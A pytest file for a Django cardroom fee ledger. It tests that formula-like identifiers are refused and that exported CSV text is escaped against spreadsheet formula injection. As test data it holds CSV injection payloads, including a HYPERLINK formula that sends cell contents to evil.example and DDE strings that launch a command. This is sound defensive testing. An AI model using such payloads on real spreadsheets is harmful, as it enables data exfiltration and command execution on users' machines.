"""CSV formula injection (issue 23): identifiers a spreadsheet would run as a formula are refused where the ledger
reads them; free text reaches the CSV files escaped the way OWASP recommends (a ' before it), on both CSV paths
(Python, and PostgreSQL's COPY) byte for byte. A text beginning with ' gets one more, so the exact text reads back
(format 2 holds each kind only as CSV, issue 26), and columns.json says how."""

import csv
import datetime
import io
import json
import zipfile
from decimal import Decimal

import pytest
from django.db import connection

from cardroom import bundle, keys
from cardroom.bundle import reading as bundle_read
from exports import build, collect
from fees.models import CollectionEntry, RoundOfPlay

from tests.exports.test_build_streaming import _Zip
from tests.exports.test_build import month  # noqa: F401  (the fixture)

pytestmark = pytest.mark.django_db
ENTRIES = "/api/v1/ledger/entries/"
# Free text beginning with each formula start. (A carriage return leads too, but Python's csv module leaves a cell
# holding one unquoted where COPY quotes it, so it is checked apart: test_a_carriage_return_start_is_escaped.)
HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1, \"Click\")", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "'quoted already", "''=twice"]


def row(table, **changes):
    return {"idempotency_key": "k-1", "table": table.pk, "gaming_day": "2026-03-03", "reference": "H-9",
            "collected_at": "2026-03-03T02:30:00-08:00", "payer": "player", "seat": 1, "fee_kind": "player",
            "amount": "1.00", **changes}


# -- identifiers are refused -------------------------------------------------------------------------------------

@pytest.mark.parametrize("field", ["reference", "player", "idempotency_key"])
@pytest.mark.parametrize("value", ["=HYPERLINK(\"http://evil.example\")", "+1+cmd|' /C calc'!A0", "-2+3",
                                   "@SUM(1+1)", " =1+1"])
def test_an_identifier_a_spreadsheet_would_run_is_refused_naming_field_and_row(api, people, month, field,  # noqa: F811
                                                                              value):
    api.force_authenticate(people.floor)
    good = row(month["table"], idempotency_key="k-0")
    answer = api.post(ENTRIES + "bulk/", {"entries": [good, row(month["table"], **{field: value})]}, format="json")
    assert answer.status_code == 400, answer.json()
    said = answer.json()["error"]["message"]
    assert f"entries[1].{field}: must not begin with {value.strip()[0]!r}" in said and "formula" in said
    single = api.post(ENTRIES, row(month["table"], **{field: value}), format="json")
    assert single.status_code == 400 and f"{field}: must not begin with" in single.json()["error"]["message"]
    assert CollectionEntry.objects.count() == 2  # the fixture's own


def test_a_batch_key_or_round_reference_a_spreadsheet_would_run_is_refused(api, people, month):  # noqa: F811
    api.force_authenticate(people.floor)
    good = row(month["table"])
    del good["idempotency_key"]
    answer = api.post(ENTRIES + "bulk/", {"idempotency_key": "=1+1", "entries": [good]}, format="json")
    assert answer.status_code == 400
    assert "The batch idempotency_key must not begin with '='" in answer.json()["error"]["message"]
    rounds = RoundOfPlay.objects.count()
    answer = api.post("/api/v1/ledger/rounds/", {
        "table": month["table"].pk, "reference": "@SUM(1+1)", "played_at": "2026-03-03T03:00:00-08:00",
        "facts": {"wagers": [{"player": "p1", "base": "10"}]}}, format="json")
    assert answer.status_code == 400 and "reference must not begin with '@'" in answer.json()["error"]["message"]
    assert RoundOfPlay.objects.count() == rounds
    # An identifier with such a character later on is fine: only the first character starts a formula.
    assert api.post(ENTRIES, row(month["table"], reference="H-9=1", player="p+1"), format="json").status_code == 201


# -- free text is escaped in the CSV, and reads back exact -------------------------------------------------------

def stored_hostile(month):  # noqa: F811
    """Rows recorded before the identifiers were checked (or by another door), and corrections whose reasons hold
    every formula start: free text may say anything."""
    first = CollectionEntry.objects.order_by("id").first()
    made = []
    for i, text in enumerate(HOSTILE):
        made.append(CollectionEntry.objects.create(
            idempotency_key=f"old-{i}", establishment=first.establishment, table=first.table,
            gaming_day=first.gaming_day, reference=text[:60], collected_at=first.collected_at, payer="player",
            seat=None, player=text[:60], fee_kind="player", amount="0.50", currency="USD",
            corrects=first if i == 0 else made[-1], reason=text, recorded_at=first.recorded_at))
    return made


def written(kind_name, scope, monkeypatch, from_postgresql):
    """The CSV file of a kind, as the Python path or PostgreSQL's COPY writes it."""
    monkeypatch.setattr(collect, "use_copy", lambda: from_postgresql)
    kind = next(k for k in collect.KINDS if k.name == kind_name)
    out = _Zip()
    build._write_csv(out, kind, scope, build.Progress(1, None))
    return out.files[f"{kind_name}.csv"].getvalue()


def read_back(kind_name, csv_bytes):
    """The rows as a reader of the bundle gets them: columns.json's types, the escape undone."""
    columns = bundle_read.columns_of(json.dumps(build.columns_document()), kind_name)
    return bundle_read.records(f"{kind_name}.csv", csv_bytes.decode(), columns)


def scope_of(people):
    return collect.ExportScope(establishments=[people.marysville], start=datetime.date(2026, 3, 1),
                               end=datetime.date(2026, 3, 31)).freeze()


def check_escaped(csv_bytes):
    cells = list(csv.DictReader(io.StringIO(csv_bytes.decode())))[-len(HOSTILE):]
    records = read_back("ledger_entries", csv_bytes)[-len(HOSTILE):]
    for text, raw, record in zip(HOSTILE, cells, records):
        for column in ("reference", "player", "reason"):
            assert raw[column] == "'" + record[column], column  # the CSV's text, escaped
        assert record["reason"] == text and record["player"] == text[:60]  # read back, exact
        assert raw["amount"] == record["amount"] == "0.50" and record["seat"] is None
        assert raw["idempotency_key"].startswith("old-") and raw["payer"] == "player"


def test_free_text_is_escaped_in_the_csv_and_reads_back_exact(people, month, monkeypatch):  # noqa: F811
    stored_hostile(month)
    scope = scope_of(people)
    check_escaped(written("ledger_entries", scope, monkeypatch, False))
    # A number is never escaped, a negative one included: collected short of expected.
    (day,) = csv.DictReader(io.StringIO(written("fees_by_table_day", scope, monkeypatch, False).decode()))
    assert day["difference"].startswith("-") and day["difference"] == str(Decimal(day["collected"])
                                                                          - Decimal(day["expected"]))
    assert build.csv_cell("-5.00") == "'-5.00" and build.csv_cell(Decimal("-5.00")) == "-5.00"
    assert build.csv_cell("") == "" and build.csv_cell("a=1") == "a=1" and build.csv_cell("a'") == "a'"
    assert build.csv_cell("'a") == "''a"


@pytest.mark.services
def test_the_csv_from_postgresql_is_the_python_paths_byte_for_byte(people, month, monkeypatch):  # noqa: F811
    assert connection.vendor == "postgresql", "this test needs PostgreSQL (bin/test's second pass)"
    stored_hostile(month)
    first = CollectionEntry.objects.order_by("id").first()
    # Fee lines as the ledger stores them (fees.engine.compact.LINE_FIELDS): free text, a note over two lines, a
    # negative fee, a count measured, and a line with neither tier nor measure.
    lines = [["player", "=p1", "player", "base_wager", 1, "150.00", "1.00", "note with\nnew line, \"quoted\""],
             ["banker", None, "banker", "players", None, 7, "-0.50", "'quoted"], ["house", "", "drop", "pot", None,
                                                                                   None, "0.00"]]
    hostile = RoundOfPlay.objects.create(
        establishment=first.establishment, table=first.table, gaming_day=first.gaming_day, reference="=1+1",
        played_at=first.collected_at, facts={}, schedule_code="+GEGA", posting=month["posting"], schedule_version=1,
        option_number=1, expected_total="0.50", currency="USD", fee_lines=json.dumps(lines))
    scope = scope_of(people)
    for name in ("ledger_entries", "rounds", "round_fee_lines"):
        assert written(name, scope, monkeypatch, True) == written(name, scope, monkeypatch, False), name
    fee_lines = [line for line in read_back("round_fee_lines", written("round_fee_lines", scope, monkeypatch, True))
                 if line["round"] == hostile.pk]
    assert [(f["line"], f["player"], f["tier"], f["measured"], f["fee"], f["note"]) for f in fee_lines] == [
        (1, "=p1", 1, "150.00", "1.00", 'note with\nnew line, "quoted"'), (2, "", None, "7", "-0.50", "'quoted"),
        (3, "", None, None, "0.00", "")]
    kind = next(k for k in collect.KINDS if k.name == "round_fee_lines")
    counted = []
    for from_postgresql in (True, False):  # a row a line, the note's new line notwithstanding
        monkeypatch.setattr(collect, "use_copy", lambda: from_postgresql)
        counted.append(build._write_csv(_Zip(), kind, scope, build.Progress(1, None)))
    assert counted[0] == counted[1] == len(read_back("round_fee_lines", written("round_fee_lines", scope,
                                                                                monkeypatch, False)))
    check_escaped(written("ledger_entries", scope, monkeypatch, True))
    rounds_csv = written("rounds", scope, monkeypatch, True)
    assert b",'=1+1," in rounds_csv
    assert b",'+GEGA," in rounds_csv and read_back("rounds", rounds_csv)[-1]["schedule"] == "+GEGA"
    from psycopg import sql

    with connection.cursor() as cursor:  # a carriage return or a quote first is escaped as the Python path does it
        for text in ("\r=1+1", "'=1"):
            cursor.execute(sql.SQL("SELECT {}").format(sql.SQL(collect.ESCAPED).format(
                sql.Literal(text), sql.SQL(", ").join(sql.Literal(c) for c in collect.ESCAPE_STARTS))))
            assert cursor.fetchone() == (build.csv_cell(text),)


def test_columns_json_says_which_cells_are_escaped_and_the_bundle_verifies(people, month, tmp_path):  # noqa: F811
    stored_hostile(month)
    scope = collect.ExportScope(establishments=[people.marysville], start=datetime.date(2026, 3, 1),
                                end=datetime.date(2026, 3, 31))
    build.build(scope, tmp_path / "b.zip", requested_by="test")
    assert bundle.verify(tmp_path / "b.zip", keys.public_key()).ok
    with zipfile.ZipFile(tmp_path / "b.zip") as zf:
        columns = json.loads(zf.read("columns.json"))
        entries = bundle_read.records("ledger_entries.csv", zf.read("ledger_entries.csv").decode(),
                                      columns["ledger_entries"]["columns"])
    said = columns["ledger_entries"]["csv_escaping"]
    assert "single quote (') before it" in said and "=, +, -, @, a tab or a carriage return" in said
    assert "take the first ' off any text cell that begins with one" in said and "-5.00" in said
    assert [e["reason"] for e in entries[-len(HOSTILE):]] == HOSTILE


def test_a_carriage_return_start_is_escaped():
    assert build.csv_cell("\r=1+1") == "'\r=1+1" and build.csv_cell("\t=1+1") == "'\t=1+1"
